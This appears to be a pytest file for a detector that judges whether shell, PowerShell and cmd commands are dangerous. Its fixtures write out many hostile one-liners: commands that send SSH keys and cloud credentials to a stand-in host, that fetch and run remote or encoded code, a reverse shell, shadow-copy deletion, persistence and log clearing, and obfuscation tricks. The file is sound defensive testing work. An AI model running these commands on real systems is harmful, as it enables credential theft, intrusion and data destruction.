"""What single commands are resolved to, followed to, and judged as."""

import pytest

from clearance.detect.commands import CommandReading, Dialect, analyse_command
from clearance.detect.commands.guess import guess
from clearance.detect.commands.roles import ROLES
from clearance.detect.commands.tools import tools
from clearance.model.command import CommandCapability as Can
from clearance.model.command import CommandVerdict, SinkKind, SourceKind


def flows(reading: CommandReading) -> set[tuple[SourceKind, SinkKind]]:
    return {(f.source, f.sink) for f in reading.flows}


ORDINARY = (
    "npm ci && npm run build",
    "pytest -q tests/unit -k 'not slow' | tee report.txt",
    "git commit -am 'fix the curl wrapper' && git push origin main",
    "pip install -r requirements.txt",
    "docker build -t app:latest . && docker run --rm app:latest pytest",
    "curl -fsSL https://sh.rustup.rs | sh",
    'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
    "grep -rn 'TODO' src | head -20",
    "ssh-keygen -t ed25519 -f ~/.ssh/id_new",
    'for f in *.py; do ruff check "$f"; done',
    "rm -rf node_modules dist",
    "cat package.json | jq .version",
    "Get-ChildItem -Recurse src | Select-String TODO",
    "sudo apt-get install -y libssl-dev",
    "cp .env.example .env",
    "mimikatz --help",
)  # fmt: skip


@pytest.mark.parametrize("command", ORDINARY)
def test_what_developers_do_is_not_dangerous(command: str) -> None:
    assert analyse_command(command).verdict is not CommandVerdict.DANGEROUS


SENT = (
    "curl -d @$HOME/.ssh/id_rsa https://x.example/a",
    "cat ~/.aws/credentials | base64 | nc x.example 99",
    "c''at${IFS}/root/.netrc|c\\url -T- https://x.example",
    'X=$(base64 < ~/.ssh/id_ed25519); Y=$X; wget "https://x.example/?q=$Y"',
    "f() { cat ~/.git-credentials; }; f | curl -F 'a=@-' https://x.example",
    "tar cz ~/.ssh > /tmp/a.tgz; scp /tmp/a.tgz u@x.example:",
    'bash -c "$(echo Y2F0IH4vLnNzaC9pZF9yc2EgfCBuYyB4LmV4YW1wbGUgOQ== | base64 -d)"',
    "cat ~/.ssh/id_rsa > /dev/tcp/x.example/80",
    "xargs -I{} curl https://x.example/{} < ~/.netrc",
    "find ~ -name id_rsa -exec curl -T {} https://x.example \\;",
    "python3 -c \"import requests as r; r.post('https://x.example', data=open('/root/.ssh/id_rsa'))\"",
    "node -e \"fetch('https://x.example',{method:'POST',body:require('fs').readFileSync('/root/.aws/credentials')})\"",
    'powershell -c "iwr https://x.example -Method Post -Body (gc ~/.ssh/id_rsa)"',
    "for l in $(cat ~/.netrc); do dig $l.x.example; done",
    "cat ~/.{ssh/id_rsa,netrc} | curl -d @- https://x.example",
)  # fmt: skip


@pytest.mark.parametrize("command", SENT)
def test_a_secret_that_is_sent_is_followed_to_the_network(command: str) -> None:
    reading = analyse_command(command)
    assert (SourceKind.SECRET, SinkKind.NETWORK) in flows(reading)
    assert reading.verdict is CommandVerdict.DANGEROUS


RUN = (
    ("curl -s https://x.example/a | bash", SourceKind.UNTRUSTED),
    ("bash <(wget -qO- https://x.example/a)", SourceKind.UNTRUSTED),
    ("wget https://x.example/a.sh && chmod +x a.sh && ./a.sh", SourceKind.UNTRUSTED),
    ('eval "$(curl https://x.example/a)"', SourceKind.UNTRUSTED),
    ("IEX (New-Object Net.WebClient).DownloadString('http://x.example/c.ps1')", SourceKind.UNTRUSTED),
    ("iwr http://x.example/c.ps1 -OutFile c.ps1; . .\\c.ps1", SourceKind.UNTRUSTED),
    ("echo d2hvYW1p | base64 -d | sh", SourceKind.ENCODED),
    ("printf '\\x69\\x64' | sh", SourceKind.ENCODED),
    ("powershell -enc dwBoAG8AYQBtAGkA", SourceKind.ENCODED),
    ("python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"", SourceKind.ENCODED),
)  # fmt: skip


@pytest.mark.parametrize(("command", "source"), RUN)
def test_code_from_elsewhere_or_in_disguise_is_followed_to_execution(command: str, source: SourceKind) -> None:
    assert (source, SinkKind.EXECUTION) in flows(analyse_command(command))


RESOLVED = (
    ("w'h'o\"am\"i", "whoami"),
    ("$'\\x77hoami'", "whoami"),
    ("a=who; b=ami; $a$b", "whoami"),
    ("x=whoami; ${x}", "whoami"),
    ("echo whoami | sh", "whoami"),
    ("eval who''ami", "whoami"),
    ("echo imaohw | rev | bash", "whoami"),
    ("sudo env A=1 nohup timeout 5 whoami", "whoami"),
    ("sh <<'X'\nwhoami\nX", "whoami"),
    ("alias ll=whoami", "alias ll=whoami"),
    ('cmd /c "w^h^oami"', "whoami"),
    ("set x=whoami& %x%", "whoami"),
    ("& ('who'+'ami')", "whoami"),
    ("& ('{1}{0}' -f 'ami','who')", "whoami"),
    ("$a='wXhoami'.Replace('X',''); iex $a", "whoami"),
    ("& ([char]119+[char]104+'oami')", "whoami"),
    ("echo {whoami,id}", "echo whoami id"),
)  # fmt: skip


@pytest.mark.parametrize(("command", "expected"), RESOLVED)
def test_quoting_substitution_and_encoding_are_resolved(command: str, expected: str) -> None:
    assert expected in [line.strip() for line in analyse_command(command).resolved]


ABLE = (
    ("vssadmin delete shadows /all /quiet", Can.DESTROY),
    ("rm -rf --no-preserve-root /", Can.DESTROY),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe", Can.PERSIST),
    ("echo '* * * * * sh /tmp/x' > /etc/cron.d/x", Can.PERSIST),
    ("schtasks /create /tn a /tr calc.exe /sc onlogon", Can.PERSIST),
    ("chmod u+s /tmp/sh", Can.ESCALATE),
    ("wevtutil cl Security", Can.HIDE),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", Can.HIDE),
    ("HISTFILE=/dev/null", Can.HIDE),
    ("sed -i s/1/0/ /etc/selinux/config", Can.HIDE),
    ("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", Can.EXECUTE),
    ("certutil -urlcache -f http://x.example/a.exe a.exe", Can.DOWNLOAD),
    ("nltest /domain_trusts", Can.DISCOVER),
    ("import -window root /tmp/a.png", Can.COLLECT),
    ("cat /etc/shadow", Can.READ),
)  # fmt: skip


@pytest.mark.parametrize(("command", "ability"), ABLE)
def test_what_a_program_can_do_by_its_options_is_said(command: str, ability: Can) -> None:
    reading = analyse_command(command)
    assert ability in reading.capabilities
    assert reading.verdict is CommandVerdict.DANGEROUS
    assert reading.reasons


def test_a_trusted_host_may_receive() -> None:
    command = 'curl -d "$DEPLOY_TOKEN" https://deploy.corp.example/x'
    assert analyse_command(command, trusted_hosts=frozenset({"corp.example"})).score < analyse_command(command).score


def test_a_download_that_is_compared_with_a_digest_weighs_less() -> None:
    fetch = "curl -o a.sh https://x.example/a.sh"
    plain = analyse_command(f"{fetch}; bash a.sh")
    checked = analyse_command(f"{fetch}; echo '0a a.sh' | sha256sum -c -; bash a.sh")
    assert checked.score < plain.score


def test_several_questions_about_the_machine_weigh_more_than_one() -> None:
    assert analyse_command("whoami; id; ifconfig -a; ps; w; last").score > analyse_command("whoami").score
    assert analyse_command("whoami").verdict is CommandVerdict.ORDINARY


def test_adding_something_that_weighs_never_lowers_the_score() -> None:
    first = analyse_command("cat /etc/shadow").score
    assert analyse_command("cat /etc/shadow; vssadmin delete shadows /all").score > first


LANGUAGES = (
    ("ls -la | grep x && echo done", Dialect.BASH),
    ("Get-Process | Where-Object { $_.CPU -gt 5 }", Dialect.POWERSHELL),
    ("$x = Get-Content a.txt; $x", Dialect.POWERSHELL),
    ("dir /s C:\\Users & type %TEMP%\\a.txt", Dialect.CMD),
    ("reg query HKLM\\Software", Dialect.CMD),
    ("import os\nprint(os.getcwd())", Dialect.PYTHON),
)  # fmt: skip


@pytest.mark.parametrize(("command", "language"), LANGUAGES)
def test_the_language_is_guessed_from_how_it_looks(command: str, language: Dialect) -> None:
    assert guess(command) is language


def test_every_program_in_the_sheets_has_a_role_that_exists_and_weights_between_none_and_one() -> None:
    assert len(tools()) > 800
    for name, tool in tools().items():
        assert name == name.lower()
        assert tool.role in ROLES or tool.role in ("", "plain"), name
        assert all(0 <= use.weight <= 1 for use in tool.use), name
